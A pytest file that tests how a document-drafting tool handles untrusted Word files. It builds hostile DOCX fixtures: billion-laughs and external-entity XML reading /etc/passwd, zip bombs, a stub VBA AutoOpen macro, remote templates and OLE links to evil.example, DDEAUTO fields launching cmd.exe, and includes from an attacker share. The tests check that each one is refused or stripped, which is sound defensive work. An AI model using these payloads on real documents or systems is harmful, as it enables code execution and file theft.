"""DOCX files from strangers: a file returned for review (`drafter review`) and a reference
document (`drafter build --reference-doc`). Zip bombs, entity expansion and external entities are
refused before any parsing, with one line and nothing written; nothing is ever fetched. Macros and
external targets of a reference document never reach drafter's output.

Every hostile file starts as a document drafter wrote, with parts patched by zipfile."""

from __future__ import annotations

import io
import re
import socket
import struct
import sys
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import docx
import pytest
from support import draft_text

from drafter.word.safety import MAX_PARTS, MAX_UNPACKED_BYTES

WORD_TESTS = Path(__file__).resolve().parent.parent / "word"
if str(WORD_TESTS) not in sys.path:
    sys.path.append(str(WORD_TESTS))
from clients import pdf_pages, soffice_convert  # noqa: E402

ONE_LINE = re.compile(r"^(?P<path>.+?):(?P<line>\d+): (?P<what>.+?) — (?P<fix>.+)$")
OLD = b"an earlier build, which a refused build leaves alone\n"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DRAFT_URL = "https://www.hrw.org/news/2021/11/24/mass-surveillance"  # the lib fixture's source


def refused(result: object, path: Path, says: str = "") -> None:
    code, out, err = result.code, result.out, result.err  # type: ignore[attr-defined]
    assert "Traceback" not in out + err and "internal error" not in err, err
    assert code == 2, (code, out, err)
    lines = err.splitlines()
    assert len(lines) == 1, err
    match = ONE_LINE.match(lines[0])
    assert match and Path(match["path"]) == path, lines[0]
    assert says.lower() in match["what"].lower(), lines[0]


def patched(data: bytes, changes: dict[str, bytes | str], drop: tuple[str, ...] = ()) -> bytes:
    """The package with parts replaced or added (`changes`) and removed (`drop`)."""
    changes = dict(changes)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:  # fmt: skip
        for name in src.namelist():
            if name not in drop:
                dst.writestr(name, changes.pop(name) if name in changes else src.read(name))
        for name, content in changes.items():
            dst.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode("utf-8")


def assert_relationships_resolve(data: bytes) -> None:
    """Every relationship id an XML part uses (r:id, r:embed, r:link ..., VML's o:relid) is one
    of that part's own relationships, and every internal target exists: Word opens it unrepaired."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = set(archive.namelist())
        texts = {n: archive.read(n) for n in names}
    relid = "{urn:schemas-microsoft-com:office:office}relid"
    for name, content in texts.items():
        if name.endswith(".rels") or not name.endswith(".xml"):
            continue
        folder, _, base = name.rpartition("/")
        rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        defined: set[str] = set()
        if rels_name in texts:
            for rel in ET.fromstring(texts[rels_name]):
                defined.add(rel.get("Id", ""))
                if rel.get("TargetMode") != "External":
                    target = rel.get("Target", "")
                    resolved = (
                        target.lstrip("/") if target.startswith("/") else _join(folder, target)
                    )
                    assert resolved in names, (rels_name, target)
        used = {
            value
            for element in ET.fromstring(content).iter()
            for attribute, value in element.attrib.items()
            if attribute.startswith(f"{{{R}}}") or attribute == relid
        }
        assert used <= defined, (name, used - defined)


def _join(folder: str, target: str) -> str:
    parts = [p for p in folder.split("/") if p]
    for piece in target.split("/"):
        if piece == "..":
            parts.pop()
        elif piece not in ("", "."):
            parts.append(piece)
    return "/".join(parts)


@pytest.fixture
def built(lib, run_cli, tmp_path: Path) -> tuple[Path, bytes]:
    """The lib fixture's draft and the DOCX drafter builds from it."""
    draft = lib.draft(draft_text())
    out = tmp_path / "built.docx"
    assert run_cli("build", draft, "-o", out, "--library", lib.root).code == 0
    return draft, out.read_bytes()


class Listener:
    """A local TCP port that records whether anything connected (a fetch would)."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(8)
        self.socket.setblocking(False)
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/x"

    def contacted(self) -> bool:
        try:
            connection, _ = self.socket.accept()
        except BlockingIOError:
            return False
        connection.close()
        return True


def build_with_reference(built, run_cli, lib, tmp_path: Path, reference_data: bytes) -> bytes:  # type: ignore[no-untyped-def]
    """Build the fixture draft with `reference_data` as its reference document; the output."""
    draft, _ = built
    reference = tmp_path / "reference.docx"
    reference.write_bytes(reference_data)
    out = tmp_path / "out.docx"
    result = run_cli("build", draft, "-o", out, "--reference-doc", reference, "--library", lib.root)
    assert result.code in (0, 1), result.err
    return out.read_bytes()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.socket.close()


# --- hostile XML -------------------------------------------------------------


def _laughs(root: str) -> str:
    entities = '<!ENTITY lol0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    return f"<!DOCTYPE {root} [{entities}]>"


def _with_doctype(xml: str, doctype: str, reference: str) -> str:
    """`xml` with `doctype` after its declaration and `reference` in its first text."""
    head, rest = xml.split("?>", 1)
    if "<w:t>" in rest:
        rest = rest.replace("<w:t>", f"<w:t>{reference}", 1)
    elif "<w:t " in rest:
        rest = re.sub(r"(<w:t [^>]*>)", lambda m: m.group(1) + reference, rest, count=1)
    return head + "?>" + doctype + rest


COMMENTS_XML = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments xmlns:w="{W}">'
    '<w:comment w:id="0" w:author="Stranger"><w:p><w:r><w:t>A comment</w:t></w:r></w:p>'
    "</w:comment></w:comments>"
)


def _with_comments(data: bytes, comments: str) -> bytes:
    rels = part(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdC1" Type="{OFFICE_RELS}/comments" Target="comments.xml"/>'
        "</Relationships>",
    )
    types = part(data, "[Content_Types].xml").replace(
        "</Types>",
        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.comments+xml"/></Types>',
    )
    return patched(
        data,
        {
            "word/comments.xml": comments,
            "word/_rels/document.xml.rels": rels,
            "[Content_Types].xml": types,
        },
    )


def hostile_xml(data: bytes, where: str, attack: str, url: str) -> bytes:
    """A copy of `data` whose `where` part (document, footnotes, comments) carries `attack`."""
    root = {"document": "w:document", "footnotes": "w:footnotes", "comments": "w:comments"}[where]
    doctype, reference = {
        "billion-laughs": (_laughs(root), "&lol9;"),
        "external-file": (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        "external-url": (f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{url}">]>', "&x;"),
        "external-dtd": (f'<!DOCTYPE {root} SYSTEM "{url}">', ""),
        "parameter-entity": (
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{url}"> %p;]>',
            "",
        ),
        "quadratic-blowup": (f'<!DOCTYPE {root} [<!ENTITY a "{"a" * 50000}">]>', "&a;" * 5000),
    }[attack]
    if where == "comments":
        return _with_comments(data, _with_doctype(COMMENTS_XML, doctype, reference))
    name = f"word/{where}.xml"
    return patched(data, {name: _with_doctype(part(data, name), doctype, reference)})


ATTACKS = ["billion-laughs", "external-file", "external-url", "external-dtd", "parameter-entity",
           "quadratic-blowup"]  # fmt: skip
WHERE = ["document", "footnotes", "comments"]


@pytest.mark.parametrize("where", WHERE)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_returned_file_with_entities_is_refused_and_nothing_fetched(
    built, run_cli, lib, tmp_path: Path, listener: Listener, attack: str, where: str
) -> None:
    draft, data = built
    returned = tmp_path / "returned.docx"
    returned.write_bytes(hostile_xml(data, where, attack, listener.url))
    merged = tmp_path / "merged.docx"
    before = draft.read_bytes()
    result = run_cli(
        "review", "--library", lib.root, draft, returned, "--merge-comments", merged, "--apply"
    )
    refused(result, returned, "entities")
    assert "root:" not in result.out + result.err
    assert not merged.exists() and draft.read_bytes() == before
    assert not draft.with_suffix(".reviewed.toml").exists()
    assert not listener.contacted()


@pytest.mark.parametrize("where", WHERE)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_reference_document_with_entities_is_refused_and_nothing_fetched(
    built, run_cli, lib, tmp_path: Path, listener: Listener, attack: str, where: str
) -> None:
    draft, data = built
    reference = tmp_path / "reference.docx"
    reference.write_bytes(hostile_xml(data, where, attack, listener.url))
    out = tmp_path / "out.docx"
    out.write_bytes(OLD)
    result = run_cli("build", draft, "-o", out, "--reference-doc", reference, "--library", lib.root)
    refused(result, reference, "entities")
    assert out.read_bytes() == OLD
    assert not listener.contacted()


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_entities_in_a_utf16_part_are_found_too(
    built, run_cli, lib, tmp_path: Path, encoding: str
) -> None:
    draft, data = built
    xml = _with_doctype(part(data, "word/document.xml"), _laughs("w:document"), "&lol9;")
    xml = xml.replace("encoding='UTF-8'", "encoding='UTF-16'").replace(
        'encoding="UTF-8"', 'encoding="UTF-16"'
    )
    bom = "\ufeff".encode(encoding)
    returned = tmp_path / "returned.docx"
    returned.write_bytes(patched(data, {"word/document.xml": bom + xml.encode(encoding)}))
    refused(run_cli("review", "--library", lib.root, draft, returned), returned, "entities")


# --- zip bombs ---------------------------------------------------------------


def _bomb(data: bytes) -> bytes:
    """One highly compressible part that inflates past the unpacked limit."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:  # fmt: skip
        for name in src.namelist():
            dst.writestr(name, src.read(name))
        with dst.open("word/media/padding.xml", "w") as member:
            chunk = b" " * (1 << 20)
            for _ in range(MAX_UNPACKED_BYTES // len(chunk) + 2):
                member.write(chunk)
    return out.getvalue()


def _many_parts(data: bytes) -> bytes:
    return patched(data, {f"word/media/p{i}.xml": b"<x/>" for i in range(MAX_PARTS + 1)})


def _declared_sizes(data: bytes, size: int) -> bytes:
    """Every central directory entry claims `size` unpacked bytes."""
    raw = bytearray(data)
    start = 0
    while (start := raw.find(b"PK\x01\x02", start)) != -1:
        struct.pack_into("<I", raw, start + 24, size)
        start += 4
    return bytes(raw)


def _lying_small_size(data: bytes) -> bytes:
    """document.xml claims 10 bytes in both headers but inflates to far more."""
    raw = bytearray(data)
    name = b"word/document.xml"
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := raw.find(signature, start)) != -1:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if raw[name_at : name_at + len(name)] == name:
                struct.pack_into("<I", raw, start + offset, 10)
            start += 4
    return bytes(raw)


BOMBS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "inflates-past-the-limit": (_bomb, "too large"),
    "too-many-parts": (_many_parts, "too many"),
    "huge-declared-sizes": (lambda d: _declared_sizes(d, 0xFFFFFFFF), "too large"),
    "lying-small-size": (_lying_small_size, "not a Word document"),
    "not-a-zip": (lambda d: d[len(d) // 2 :], "not a Word document"),
    "truncated": (lambda d: d[: len(d) // 2], "not a Word document"),
}


@pytest.fixture(scope="module")
def bomb_cache() -> dict[str, bytes]:
    return {}


@pytest.mark.parametrize("kind", list(BOMBS))
@pytest.mark.parametrize("role", ["returned", "reference"])
def test_a_zip_bomb_is_refused(built, run_cli, lib, tmp_path: Path, kind: str, role: str) -> None:
    draft, data = built
    make, says = BOMBS[kind]
    hostile = tmp_path / "hostile.docx"
    hostile.write_bytes(make(data))
    out = tmp_path / "out.docx"
    out.write_bytes(OLD)
    if role == "returned":
        result = run_cli("review", "--library", lib.root, draft, hostile, "--merge-comments", out)
    else:
        result = run_cli("build", draft, "-o", out, "--reference-doc", hostile, "--library", lib.root)  # fmt: skip
    says = "package unpacks to too many or too large parts" if says.startswith("too") else says
    refused(result, hostile, says)
    assert out.read_bytes() == OLD


# --- macros and external targets in a reference document --------------------

VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
UI = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
HEADER_EXTRAS = (
    '<w:hyperlink r:id="rIdEvilLink"><w:r><w:t>Visit us</w:t></w:r></w:hyperlink>'
    '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="90" name="p"/>'
    '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic><pic:nvPicPr><pic:cNvPr id="90" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdEvilImage"/></pic:blipFill><pic:spPr/></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    '<w:r><w:object><v:shape id="ole1" style="width:1pt;height:1pt"><v:imagedata r:id="rIdEvilVml"/>'
    '</v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="ole1" r:id="rIdEvilOle">'
    "<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r>"
)
EVIL = "evil.example"


def macro_reference(data: bytes) -> bytes:
    """Drafter's document with a letterhead, then macros, an add-in ribbon, an attached template,
    mail merge, and external links, pictures and an OLE object patched in."""
    document = docx.Document(io.BytesIO(data))
    header = document.sections[0].header
    header.is_linked_to_previous = False
    header.paragraphs[0].text = "LETTERHEAD of the coalition"
    buffer = io.BytesIO()
    document.save(buffer)
    data = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        header_name = next(n for n in archive.namelist() if re.match(r"word/header\d*\.xml$", n))
    header_xml = part(data, header_name)
    header_xml = re.sub(r"<w:hdr [^>]*>", f"<w:hdr {NS}>", header_xml, count=1)
    header_xml = header_xml.replace("</w:p>", HEADER_EXTRAS + "</w:p>", 1)
    header_rels_name = header_name.replace("word/", "word/_rels/") + ".rels"
    header_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdEvilLink" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/link" TargetMode="External"/>'
        f'<Relationship Id="rIdEvilImage" Type="{OFFICE_RELS}/image" Target="https://{EVIL}/pixel.png" TargetMode="External"/>'
        f'<Relationship Id="rIdEvilVml" Type="{OFFICE_RELS}/image" Target="file:///etc/passwd" TargetMode="External"/>'
        f'<Relationship Id="rIdEvilOle" Type="{OFFICE_RELS}/oleObject" Target="file:///C:/{EVIL}/book.xlsx" TargetMode="External"/>'
        "</Relationships>"
    )
    settings = part(data, "word/settings.xml")
    settings = re.sub(r"<w:settings ([^>]*)>", rf'<w:settings \1 xmlns:r="{R}">', settings, count=1)
    settings = settings.replace(
        "</w:settings>",
        '<w:attachedTemplate r:id="rIdTemplate"/><w:mailMerge><w:mainDocumentType '
        'w:val="formLetters"/><w:dataSource r:id="rIdMerge"/></w:mailMerge></w:settings>',
    )
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdTemplate" Type="{OFFICE_RELS}/attachedTemplate" Target="https://{EVIL}/macros.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdMerge" Type="{OFFICE_RELS}/mailMergeSource" Target="file:///{EVIL}/data.xlsx" TargetMode="External"/>'
        "</Relationships>"
    )
    rels = part(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdVba" Type="{VBA}" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdSub" Type="{OFFICE_RELS}/subDocument" Target="https://{EVIL}/sub.docx" TargetMode="External"/>'
        f'<Relationship Id="rIdLeft" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/left" TargetMode="External"/>'
        "</Relationships>",
    )
    package_rels = part(data, "_rels/.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdUi" Type="{UI}" Target="customUI/customUI.xml"/>'
        f'<Relationship Id="rIdOut" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/pkg" TargetMode="External"/>'
        "</Relationships>",
    )
    types = part(data, "[Content_Types].xml").replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    custom_ui = (
        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Evil">'
        "</customUI>"
    )
    return patched(
        data,
        {
            header_name: header_xml,
            header_rels_name: header_rels,
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": settings_rels,
            "word/_rels/document.xml.rels": rels,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA macros: Sub AutoOpen() Shell(...)",
            "_rels/.rels": package_rels,
            "customUI/customUI.xml": custom_ui,
            "[Content_Types].xml": types,
        },
    )


def test_macros_and_external_targets_of_a_reference_never_reach_the_output(
    built, run_cli, lib, tmp_path: Path
) -> None:
    output = build_with_reference(built, run_cli, lib, tmp_path, macro_reference(built[1]))
    with zipfile.ZipFile(io.BytesIO(output)) as archive:
        names = archive.namelist()
        texts = {n: archive.read(n).decode("utf-8", "replace") for n in names}
    assert not [n for n in names if "vba" in n.lower() or "customui" in n.lower()], names
    types = texts["[Content_Types].xml"]
    assert "macroEnabled" not in types and "vbaProject" not in types
    assert (
        'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"' in types
    )
    external = set()
    for name, text in texts.items():
        assert EVIL not in text and "/etc/passwd" not in text, name
        if name.endswith(".rels"):
            for rel in re.findall(r"<Relationship [^>]*>", text):
                assert "attachedTemplate" not in rel and "oleObject" not in rel, rel
                assert "subDocument" not in rel and "mailMerge" not in rel and VBA not in rel
                if 'TargetMode="External"' in rel:
                    external.add(re.search(r'Target="([^"]+)"', rel).group(1))  # type: ignore[union-attr]
    assert external == {DRAFT_URL}  # drafter's own link, from the draft's source
    header = next(t for n, t in texts.items() if re.match(r"word/header\d*\.xml$", n))
    assert "LETTERHEAD of the coalition" in header and "Visit us" in header  # link text kept
    assert "w:object" not in header and "r:link" not in header and "w:hyperlink" not in header
    settings = texts["word/settings.xml"]
    assert "attachedTemplate" not in settings and "mailMerge" not in settings
    assert_relationships_resolve(output)
    reread = docx.Document(io.BytesIO(output))
    assert reread.sections[0].header.paragraphs[0].text.startswith("LETTERHEAD")


def test_the_reference_document_itself_is_left_unchanged(
    built, run_cli, lib, tmp_path: Path
) -> None:
    draft, data = built
    reference = tmp_path / "reference.docx"
    reference.write_bytes(macro_reference(data))
    before = reference.read_bytes()
    result = run_cli("build", draft, "-o", tmp_path / "out.docx", "--reference-doc", reference,
                     "--library", lib.root)  # fmt: skip
    assert result.code in (0, 1) and reference.read_bytes() == before
    assert_relationships_resolve((tmp_path / "out.docx").read_bytes())


@pytest.mark.parametrize(
    ("content_type", "says"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "macro-enabled"),
        ("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "macro-enabled"),
        (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
            "template",
        ),
    ],
)
@pytest.mark.parametrize("role", ["returned", "reference"])
def test_a_macro_enabled_file_is_refused(
    built, run_cli, lib, tmp_path: Path, content_type: str, says: str, role: str
) -> None:
    draft, data = built
    types = re.sub(
        r'(PartName="/word/document.xml" ContentType=")[^"]+"',
        rf'\g<1>{content_type}"',
        part(data, "[Content_Types].xml"),
    )
    hostile = tmp_path / "macros.docm"
    hostile.write_bytes(
        patched(data, {"[Content_Types].xml": types, "word/vbaProject.bin": b"VBA"})
    )
    out = tmp_path / "out.docx"
    if role == "returned":
        result = run_cli("review", "--library", lib.root, draft, hostile, "--merge-comments", out)
    else:
        result = run_cli("build", draft, "-o", out, "--reference-doc", hostile, "--library", lib.root)  # fmt: skip
    refused(result, hostile, says)
    assert not out.exists()


def test_a_returned_file_with_macros_and_external_links_is_read_without_following_them(
    built, run_cli, lib, tmp_path: Path, listener: Listener
) -> None:
    """Reading follows nothing: the external targets are only names in the review."""
    draft, data = built
    hostile = macro_reference(data)
    rels = part(hostile, "word/_rels/document.xml.rels").replace(
        "https://evil.example/left", listener.url
    )
    returned = tmp_path / "returned.docx"
    returned.write_bytes(patched(hostile, {"word/_rels/document.xml.rels": rels}))
    result = run_cli("review", "--library", lib.root, draft, returned, "--format", "json")
    assert result.code == 0, result.err
    assert not listener.contacted()


# --- fields, a glossary and media in a reference document --------------------

BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "separate", "end"))  # fmt: skip


def _instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def _text(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


HEADER_FIELDS = (
    # DDE, its instruction split over two runs, with a displayed result
    BEGIN + _instr(r" DDEAUTO c:\\windows\\system32\\cmd.exe ") + _instr('"/k calc.exe" ')
    + SEPARATE + _text("[dde result]") + END
    # a simple field including a file from a network share
    + r'<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\attacker\\share\\x&quot; ">'
    + _text("[included]") + "</w:fldSimple>"
    # a linked picture, all in one run, with no result
    + '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE '
    f'"https://{EVIL}/p.png" \\d </w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
    # a link field whose result holds a page number (which stays a field)
    + BEGIN + _instr(f' HYPERLINK "https://{EVIL}/f" ') + SEPARATE + _text("[page ")
    + BEGIN + _instr(" page ") + SEPARATE + _text("1") + END + _text("]") + END
    # a condition whose instruction nests a network include
    + BEGIN + _instr(" IF ") + BEGIN + _instr(r' INCLUDETEXT "\\\\attacker\\share\\y" ')
    + SEPARATE + _text("secret") + END + _instr(' = "a" "b" "c" ') + SEPARATE
    + _text("[if result]") + END
    # a harmless simple field
    + '<w:fldSimple w:instr=" NUMPAGES ">' + _text("9") + "</w:fldSimple>"
)  # fmt: skip
FOOTER_FIELD = '<w:fldSimple w:instr=" DDEAUTO cmd.exe &quot;/c calc&quot; "/>'


def _story_name(data: bytes, kind: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return next(n for n in archive.namelist() if re.match(rf"word/{kind}\d*\.xml$", n))


def field_reference(data: bytes) -> bytes:
    """Drafter's document (its footer a PAGE field) with a letterhead of fields, active and
    harmless, simple and complex, nested, and a DDE field beside the page number."""
    document = docx.Document(io.BytesIO(data))
    header = document.sections[0].header
    header.is_linked_to_previous = False
    header.paragraphs[0].text = "LETTERHEAD of the coalition "
    buffer = io.BytesIO()
    document.save(buffer)
    data = buffer.getvalue()
    header_name, footer_name = _story_name(data, "header"), _story_name(data, "footer")
    header_xml = part(data, header_name).replace("</w:p>", HEADER_FIELDS + "</w:p>", 1)
    footer_xml = part(data, footer_name).replace("</w:p>", FOOTER_FIELD + "</w:p>", 1)
    return patched(data, {header_name: header_xml, footer_name: footer_xml})


def test_active_fields_of_a_reference_keep_only_their_text(
    built, run_cli, lib, tmp_path: Path
) -> None:
    output = build_with_reference(built, run_cli, lib, tmp_path, field_reference(built[1]))
    header, footer = part(output, _story_name(output, "header")), part(output, _story_name(output, "footer"))  # fmt: skip
    for text in (header, footer):
        for word in ("DDE", "cmd.exe", "calc", "INCLUDE", "attacker", "HYPERLINK", EVIL, "secret",
                     "IF ", "fldData"):  # fmt: skip
            assert word not in text, word
    # what they displayed stays, and so do the harmless fields
    assert re.findall(r"<w:instrText[^>]*>([^<]*)<", header) == [" page "]
    assert re.findall(r'w:instr="([^"]*)"', header) == [" NUMPAGES "]
    assert [header.count(f'w:fldCharType="{k}"') for k in ("begin", "separate", "end")] == [1, 1, 1]
    assert re.findall(r"<w:instrText[^>]*>([^<]*)<", footer) == [" PAGE "]
    assert "w:fldSimple" not in footer
    reread = docx.Document(io.BytesIO(output))
    assert reread.sections[0].header.paragraphs[0].text == (
        "LETTERHEAD of the coalition [dde result][included][page 1][if result]"
    )  # python-docx reads no text inside a field kept simple (NUMPAGES)
    assert_relationships_resolve(output)
    # LibreOffice still numbers the pages: the header's kept field and drafter's footer
    pdf = soffice_convert(tmp_path / "out.docx", tmp_path / "pdf", "pdf", tmp_path / "profile")
    pages = pdf_pages(pdf)
    assert pages
    for number, text in enumerate(pages, start=1):
        lines = [line.strip() for line in text.splitlines() if line.strip()]
        assert lines[-1] == str(number), lines
        expected = f"[dderesult][included][page{number}][ifresult]{len(pages)}"
        assert expected in "".join(lines[0].split()), lines


GLOSSARY = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/glossaryDocument"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def glossary_reference(data: bytes) -> bytes:
    """Drafter's document with a glossary of Quick Parts: its own styles, picture and link."""
    glossary = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:glossaryDocument {NS}>'
        '<w:docParts><w:docPart><w:docPartPr><w:name w:val="Signature"/><w:category><w:name '
        'w:val="General"/><w:gallery w:val="autoTxt"/></w:category><w:guid w:val="{00000000-'
        '0000-0000-0000-000000000001}"/></w:docPartPr><w:docPartBody><w:p>'
        '<w:hyperlink r:id="rIdG1"><w:r><w:t>Quick link</w:t></w:r></w:hyperlink>'
        '<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="91" name="g"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic><pic:nvPicPr><pic:cNvPr id="91" name="g"/><pic:cNvPicPr/></pic:nvPicPr>'
        '<pic:blipFill><a:blip r:embed="rIdG2"/></pic:blipFill><pic:spPr/></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
        '<w:fldSimple w:instr=" DDEAUTO cmd.exe "/></w:p></w:docPartBody></w:docPart>'
        "</w:docParts></w:glossaryDocument>"
    )
    glossary_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdG1" Type="{OFFICE_RELS}/hyperlink" Target="https://{EVIL}/q" TargetMode="External"/>'
        f'<Relationship Id="rIdG2" Type="{OFFICE_RELS}/image" Target="media/image1.png"/>'
        f'<Relationship Id="rIdG3" Type="{OFFICE_RELS}/styles" Target="styles.xml"/>'
        "</Relationships>"
    )
    rels = part(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdGlossary" Type="{GLOSSARY}" Target="glossary/document.xml"/>'
        "</Relationships>",
    )
    types = part(data, "[Content_Types].xml").replace(
        "</Types>",
        '<Default Extension="png" ContentType="image/png"/>'
        '<Override PartName="/word/glossary/document.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/>'
        '<Override PartName="/word/glossary/styles.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>',
    )
    return patched(
        data,
        {
            "word/_rels/document.xml.rels": rels,
            "[Content_Types].xml": types,
            "word/glossary/document.xml": glossary,
            "word/glossary/_rels/document.xml.rels": glossary_rels,
            "word/glossary/styles.xml": part(data, "word/styles.xml"),
            "word/glossary/media/image1.png": PNG,
        },
    )


def test_the_glossary_of_a_reference_is_dropped_whole(built, run_cli, lib, tmp_path: Path) -> None:
    reference = glossary_reference(built[1])
    assert_relationships_resolve(reference)  # the fixture itself is sound
    output = build_with_reference(built, run_cli, lib, tmp_path, reference)
    with zipfile.ZipFile(io.BytesIO(output)) as archive:
        names = archive.namelist()
        texts = [archive.read(n).decode("utf-8", "replace") for n in names]
    assert not [n for n in names if "glossary" in n.lower()], names
    assert not [t for t in texts if "glossary" in t.lower() or EVIL in t]
    assert_relationships_resolve(output)
    docx.Document(io.BytesIO(output))


INKSCAPE_SVG = (
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" '
    'height="10"/></svg>'
)


def _with_part(data: bytes, name: str, content: str, content_type: str) -> bytes:
    """`data` with part `name` of `content_type`, related as an image from the document."""
    types = part(data, "[Content_Types].xml").replace(
        "</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    )
    rels = part(data, "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rIdExtra" Type="{OFFICE_RELS}/image" '
        f'Target="{name.removeprefix("word/")}"/></Relationships>',
    )
    return patched(
        data, {name: content, "[Content_Types].xml": types, "word/_rels/document.xml.rels": rels}
    )


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("word/media/logo.svg", "image/svg+xml"), ("word/media/blob.bin", "application/octet-stream")],
)
@pytest.mark.parametrize("role", ["returned", "reference"])
def test_a_doctype_in_a_media_or_binary_part_is_not_refused(
    built, run_cli, lib, tmp_path: Path, name: str, content_type: str, role: str
) -> None:
